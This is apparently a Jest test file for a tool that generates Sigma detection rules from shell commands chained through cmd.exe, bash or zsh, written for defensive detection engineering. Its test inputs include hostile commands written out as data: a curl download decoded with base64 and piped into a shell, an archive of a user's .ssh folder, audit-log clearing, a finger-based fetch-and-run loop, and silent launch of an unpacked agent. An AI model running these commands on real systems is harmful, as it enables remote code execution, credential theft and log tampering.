import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules } from './builtin-sigma-agent';
import { relayedChain, relayedCommand } from './relaying-shell';

// Synthetic examples; no fixture article.
const article = { title: 'Synthetic chain note', url: 'https://notes.example.org/chain', date: '2026-11-28' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };

function chainRules(commandLine: string) {
  const drafts = generateBuiltinRules({
    article,
    platform: 'windows',
    cmdlines: [{ ...item, value: commandLine, executable: 'cmd.exe' }],
  });
  return drafts.filter((draft) => /Chained In One Cmd\.EXE/.test(draft.rule.title));
}

describe('a chain a Windows line hands cmd.exe', () => {
  it('reads the command cmd.exe runs, outer quotes and switches removed', () => {
    expect(relayedCommand('cmd /q /k "bitsadmin /list & type C:\\x.txt"')?.command).toBe('bitsadmin /list & type C:\\x.txt');
    expect(relayedCommand('C:\\Windows\\System32\\cmd.exe /c whoami')).toEqual({ shell: 'cmd.exe', command: 'whoami' });
    expect(relayedCommand('powershell -c whoami')).toBeNull();
  });

  it('keys cmd.exe on a value of each stage: a built-in with its switch or its file, a program with what it is told', () => {
    expect(relayedChain('cmd.exe /c timeout 5 > nul && del /Q "C:\\ProgramData\\upd.exe"')?.values).toEqual(['timeout 5', 'del /Q']);
    expect(relayedChain('cmd /c @cd C:\\Users\\[User]\\Temp\\unpack.tmp & CALL C:\\Users\\[User]\\Temp\\run.cmd')?.values).toEqual([
      'unpack.tmp',
      'run.cmd',
    ]);
  });

  it('gives no chain for one stage, or for one program run several times', () => {
    expect(relayedChain('cmd /c net use Z: \\\\files.example\\share')).toBeNull();
    expect(relayedChain('cmd /c auditpol /clear | auditpol /remove')).toBeNull();
  });

  it('writes a cmd.exe rule that fires on the line and not on each program alone', () => {
    const line = 'cmd /k "tar -xf %TEMP%\\kit.zip -C %TEMP% && start /b %TEMP%\\kit\\agent.exe"';
    const [draft, ...others] = chainRules(line);
    expect(others).toHaveLength(0);
    expect(draft?.rule.detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\cmd.exe' }, { OriginalFileName: 'Cmd.Exe' }],
      selection_cli: { 'CommandLine|contains|all': ['tar -xf', 'start /b'] },
      condition: 'all of selection_*',
    });
    expect(draft?.rule.title).toBe('Tar And Start Chained In One Cmd.EXE Command Line');
    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: line }])).toMatchObject({ fires: true });
    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: 'tar -xf %TEMP%\\kit.zip -C %TEMP%' }])).toMatchObject({
      fires: false,
    });
  });

  it('leaves a chain a technique rule on cmd.exe covers to that rule', () => {
    expect(chainRules('cmd /c for /f "delims=" %a in (\'finger probe@relay.example\') do call %a & exit')).toHaveLength(0);
  });
});

describe('a chain a Unix line hands a shell', () => {
  it('keys the shell on each stage, the pipe into a shell as written', () => {
    expect(relayedCommand("/bin/bash -c 'id && uname -a'", false)).toEqual({ shell: 'bash', command: 'id && uname -a' });
    expect(relayedChain('zsh -c "curl -fsSL https://cdn.example/s.txt | base64 -d | zsh"', false)?.values).toEqual([
      'curl -fsSL',
      'base64 -d',
      '| zsh',
    ]);
    expect(relayedChain('curl -fsSL https://cdn.example/s.txt | base64 -d | zsh', false)).toBeNull();
  });

  it('writes a rule on the relaying shell that fires on the line', () => {
    // Piped through base64 into a shell, the same line is the technique rule's; this one is the shell's own.
    const line = 'bash -c "crontab -l > /tmp/.c; tar -czf /tmp/.k.tgz /home/dev/.ssh"';
    const drafts = generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value: line, executable: 'bash' }] });
    const draft = drafts.find((one) => /Chained In One Bash Command Line/.test(one.rule.title));
    expect(draft?.rule.detection['selection']).toEqual({
      'Image|endswith': '/bash',
      'CommandLine|contains|all': ['crontab -l', 'tar -czf'],
    });
    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: line }])).toMatchObject({ fires: true });
  });
});
